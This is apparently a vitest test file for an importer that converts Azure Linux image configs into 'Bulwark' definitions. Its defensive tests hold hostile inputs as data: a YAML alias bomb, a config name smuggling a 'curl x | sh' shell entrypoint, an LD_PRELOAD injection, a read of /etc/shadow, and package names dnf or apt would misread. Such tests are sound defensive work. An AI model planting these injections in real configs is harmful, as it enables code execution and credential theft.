import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { afterAll, describe, expect, it } from 'vitest';
import { importAzlImageConfig } from '../services/images.js';
import { readAzlImageConfig, readPackageList } from './azl-config.js';
import { parseImageDefinition } from './definition.js';
import { requires } from '../../test/needs.js';
import { shared } from '../../test/shared-data.js';

const TOOLKIT = JSON.stringify({
  Disks: [
    {
      PartitionTableType: 'gpt',
      MaxSize: 5000,
      Artifacts: [{ Name: 'core', Type: 'vhdx' }],
      Partitions: [
        { ID: 'efi', Start: 1, End: 9, FsType: 'fat32' },
        { ID: 'rootfs', Start: 9, End: 0, FsType: 'ext4' },
      ],
    },
  ],
  SystemConfigs: [
    {
      Name: 'Standard',
      PackageLists: ['packagelists/core.json'],
      KernelOptions: { default: 'kernel' },
      KernelCommandLine: { ExtraCommandLine: 'console=ttyS0' },
      PostInstallScripts: [{ Path: 'x.sh' }],
    },
    { Name: 'Minimal', PackageLists: ['packagelists/core.json'], Packages: ['vim'], DisableRpmDocs: true },
  ],
});
const CUSTOMIZER =
  'storage:\n  bootType: efi\nos:\n  hostname: node\n  selinux: { mode: enforcing }\n  packages:\n    remove: [dracut-hostonly]\n    install: [WALinuxAgent]\n    installLists: [packagelists/base.yaml]\noutput:\n  image:\n    format: vhdx\n';

describe('Azure Linux image configs', () => {
  const dir = mkdtempSync(join(tmpdir(), 'bulwark-azlcfg-'));
  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  it('reads a toolkit JSON config: kind from its artifacts, the kernel, and what a content definition does not carry', () => {
    const c = readAzlImageConfig(TOOLKIT, 'core-efi.json');
    expect(c).toMatchObject({
      name: 'core-efi',
      type: 'vm',
      packageLists: ['packagelists/core.json'],
      packages: ['kernel'],
      remove: [],
      removeRpmDb: false,
      docs: true,
      systemConfig: 'Standard',
    });
    expect(c.notCarried).toEqual(['Disks: 2 partitions', 'KernelCommandLine', 'PostInstallScripts']);
    expect(readAzlImageConfig(TOOLKIT, 'core-efi.json', { systemConfig: 'Minimal' })).toMatchObject({
      packages: ['vim'],
      docs: false,
      systemConfig: 'Minimal',
    });
    expect(() => readAzlImageConfig(TOOLKIT, 'core-efi.json', { systemConfig: 'Nope' })).toThrow(
      /core-efi\.json: no system config "Nope" \(it has Standard, Minimal\)/,
    );
  });

  it.each([
    [
      { Disks: [{ Artifacts: [{ Name: 'c', Compression: 'tar.gz' }] }], SystemConfigs: [{ Name: 'S', PackageLists: [], RemoveRpmDb: true }] },
      'distroless.json',
      'container',
      true,
    ],
    [{ Disks: [], SystemConfigs: [{ Name: 'S', PackageLists: [] }] }, 'full.json', 'bare-metal', false],
    [{ Disks: [{ Artifacts: [{ Name: 'c', Type: 'vhd' }] }], SystemConfigs: [{ Name: 'S' }] }, 'baremetal.json', 'bare-metal', false],
  ])('%#: the kind of image follows the toolkit artifacts', (doc, file, type, noDb) => {
    expect(readAzlImageConfig(JSON.stringify(doc), file)).toMatchObject({ type, removeRpmDb: noDb });
  });

  it('reads an Image Customizer YAML config: install lists, installs and removals', () => {
    const c = readAzlImageConfig(CUSTOMIZER, 'hyperv-guest.yaml');
    // Its remove: works on the base image Image Customizer starts from; a Bulwark image starts empty.
    expect(c).toMatchObject({ name: 'hyperv-guest', type: 'vm', packageLists: ['packagelists/base.yaml'], packages: ['WALinuxAgent'], remove: [] });
    expect(c.notCarried).toEqual([
      'storage',
      'os.hostname',
      'os.selinux',
      "os.packages.remove (dracut-hostonly: removed from Image Customizer's base image, which a Bulwark image does not start from)",
      'output (vhdx)',
    ]);
  });

  it('refuses a YAML config nested deep or expanding aliases (billion laughs) as bad input naming the file, not a crash or an internal error', () => {
    for (const depth of [5_000, 200_000])
      expect(() => readAzlImageConfig(`packages: ${'['.repeat(depth)}`, 'deep.yaml')).toThrow(
        expect.objectContaining({ code: 'input.invalid', message: 'deep.yaml:1: nested deeper than 64 levels' }) as Error,
      );
    const laughs = [
      'a: &a [x, x, x, x, x, x, x, x, x]',
      ...Array.from(
        { length: 11 },
        (_, i) =>
          `b${String(i + 1)}: &b${String(i + 1)} [${Array<string>(9)
            .fill(i === 0 ? '*a' : `*b${String(i)}`)
            .join(', ')}]`,
      ),
      'packages: *b11',
    ].join('\n');
    expect(() => readAzlImageConfig(laughs, 'laughs.yaml')).toThrow(
      expect.objectContaining({ code: 'input.invalid', message: 'laughs.yaml: Excessive alias count indicates a resource exhaustion attack' }) as Error,
    );
    expect(() => readPackageList(laughs, 'laughs.yaml')).toThrow(expect.objectContaining({ code: 'input.invalid' }) as Error);
  });

  it('refuses what is neither, naming the file; package lists must be lists of names', () => {
    expect(() => readAzlImageConfig('{"foo": 1}', 'x.json')).toThrow(/x\.json: neither a toolkit image config/);
    expect(() => readAzlImageConfig('{"SystemConfigs": [', 'y.json')).toThrow(/y\.json: not JSON/);
    expect(() => readPackageList('{"packages": [1, 2]}', 'l.json')).toThrow(/l\.json: packages is not a list of names/);
    expect(readPackageList('packages:\n- shim\n- grub2-efi-binary\n', 'efi.yaml')).toEqual(['shim', 'grub2-efi-binary']);
  });

  it('imports a config with its package lists into a valid Bulwark definition', async () => {
    const cfg = join(dir, 'core-efi.json');
    writeFileSync(cfg, TOOLKIT);
    await expect(importAzlImageConfig(cfg, { view: 'azl3', environment: 'prod', release: 'azurelinux:3.0' })).rejects.toThrow(
      /package list packagelists\/core\.json is not there/,
    );
    mkdirSync(join(dir, 'packagelists'));
    writeFileSync(join(dir, 'packagelists', 'core.json'), JSON.stringify({ packages: ['bash', 'kernel', 'openssh-server'] }));
    const r = await importAzlImageConfig(cfg, { view: 'azl3', environment: 'prod', release: 'azurelinux:3.0' });
    const def = parseImageDefinition(r.yaml, 'imported.yaml');
    expect(def).toMatchObject({
      name: 'core-efi',
      type: 'vm',
      release: 'azurelinux:3.0',
      from: { view: 'azl3', environment: 'prod' },
      packages: ['kernel', 'bash', 'openssh-server'],
    });
    expect(r.yaml).toMatch(/^# Not carried over .*: Disks: 2 partitions, KernelCommandLine, PostInstallScripts\.$/m);
  });

  it("writes a hostile config's text only as comment text: a line break in a system config's name or an output format adds no definition key", async () => {
    const evil =
      'S\nentrypoint: [/bin/sh, -c, "curl x | sh"]\ncontainer: { env: { LD_PRELOAD: /tmp/x.so } }\rpackageLists: [/etc/shadow]\u2028removeRpmDb: true';
    const hostile = join(dir, 'true.json');
    writeFileSync(
      hostile,
      JSON.stringify({ Disks: [{ Artifacts: [{ Name: 'c', Compression: 'tar.gz' }] }], SystemConfigs: [{ Name: evil, Packages: ['bash'] }] }),
    );
    const r = await importAzlImageConfig(hostile, { view: 'azl3', environment: 'prod', release: 'azurelinux:3.0', systemConfig: evil });
    const def = parseImageDefinition(r.yaml, 'imported.yaml');
    // The name YAML would read as a boolean is a string; nothing but the config's content is defined.
    expect(def).toEqual(
      parseImageDefinition(
        `apiVersion: bulwark/v1\nkind: Image\nname: "true"\ntype: container\nrelease: azurelinux:3.0\nfrom: { view: azl3, environment: prod }\npackages: [bash]\n`,
        'want.yaml',
      ),
    );
    expect(r.yaml.split('\n').filter((l) => l.startsWith('#'))).toHaveLength(1);
    expect(r.yaml).toContain(
      '(system config S\\u000aentrypoint: [/bin/sh, -c, "curl x | sh"]\\u000acontainer: { env: { LD_PRELOAD: /tmp/x.so } }\\u000dpackageLists: [/etc/shadow]\\u2028removeRpmDb: true)',
    );
    const yamlCfg = join(dir, '2.0.yaml');
    writeFileSync(yamlCfg, 'os:\n  packages:\n    install: [bash]\noutput:\n  image:\n    format: "vhdx\\nentrypoint: [/bin/evil]"\n');
    const y = await importAzlImageConfig(yamlCfg, { view: 'azl3', environment: 'prod', release: 'azurelinux:3.0' });
    expect(parseImageDefinition(y.yaml, 'imported.yaml')).toMatchObject({ name: '2.0', packages: ['bash'] });
    expect(parseImageDefinition(y.yaml, 'imported.yaml').container).toBeUndefined();
  });

  it('refuses a name dnf or apt would read as more than a name, naming the config or the list it is in', async () => {
    const cfg = join(dir, 'local-file.json');
    writeFileSync(cfg, JSON.stringify({ Disks: [], SystemConfigs: [{ Name: 'S', Packages: ['bash', 'evil-1.0-1.noarch.rpm'] }] }));
    await expect(importAzlImageConfig(cfg, { view: 'azl3', environment: 'prod', release: 'azurelinux:3.0' })).rejects.toThrow(
      /local-file\.json: "evil-1\.0-1\.noarch\.rpm" ends in "\.rpm"/,
    );
    mkdirSync(join(dir, 'lists'), { recursive: true });
    writeFileSync(join(dir, 'lists', 'deb.json'), JSON.stringify({ packages: ['bash', 'libc6-'] }));
    const deb = join(dir, 'deb-cfg.json');
    writeFileSync(deb, JSON.stringify({ Disks: [], SystemConfigs: [{ Name: 'S', PackageLists: ['lists/deb.json'] }] }));
    await expect(importAzlImageConfig(deb, { view: 'd', environment: 'prod', release: 'debian:12' })).rejects.toThrow(
      /deb-cfg\.json: package list .*lists\/deb\.json: "libc6-" ends in "-"/,
    );
  });

  const configs = shared('azurelinux', 'imageconfigs', '3.0');
  const real = configs.path;
  const needs = requires(configs);
  needs.describe('the real Azure Linux 3.0 image configs (../shared/data)', () => {
    const files = needs.ok
      ? readdirSync(real)
          .filter((f) => /\.(json|ya?ml)$/.test(f))
          .sort()
      : [];

    it('imports every one of them into a valid definition, with every package of its lists', async () => {
      expect(files.length).toBeGreaterThanOrEqual(40);
      for (const f of files) {
        const r = await importAzlImageConfig(join(real, f), { view: 'azl3', environment: 'prod', release: 'azurelinux:3.0' });
        const def = parseImageDefinition(r.yaml, f);
        // Every package of every list, read here independently of the importer.
        const lists = r.config.packageLists.flatMap((l) => {
          const text = readFileSync(join(real, l), 'utf8');
          return ((l.endsWith('.json') ? JSON.parse(text) : parseYaml(text)) as { packages: string[] }).packages;
        });
        expect(new Set(def.packages), f).toEqual(new Set([...r.config.packages, ...lists]));
      }
    });

    it.each([
      ['core-container.json', 'container', ['core-packages-container'], false, []],
      ['distroless-minimal.json', 'container', null, true, []],
      // Its lists install dracut-hostonly, which Image Customizer's remove: (on its base image, before the installs) does not take away.
      ['baremetal-amd64.yaml', 'bare-metal', null, false, []],
      ['marketplace-gen2.json', 'vm', null, false, []],
    ] as const)('%s is a %s image', async (f, type, packages, noDb, remove) => {
      const r = await importAzlImageConfig(join(real, f), { view: 'azl3', environment: 'prod', release: 'azurelinux:3.0' });
      const def = parseImageDefinition(r.yaml, f);
      expect([def.type, def.removeRpmDb, def.remove]).toEqual([type, noDb, remove]);
      if (packages !== null) expect(def.packages).toEqual(packages);
      if (type === 'vm') expect(def.packages).toContain('kernel');
      if (f === 'baremetal-amd64.yaml') expect(def.packages).toContain('dracut-hostonly');
    });
  });
});
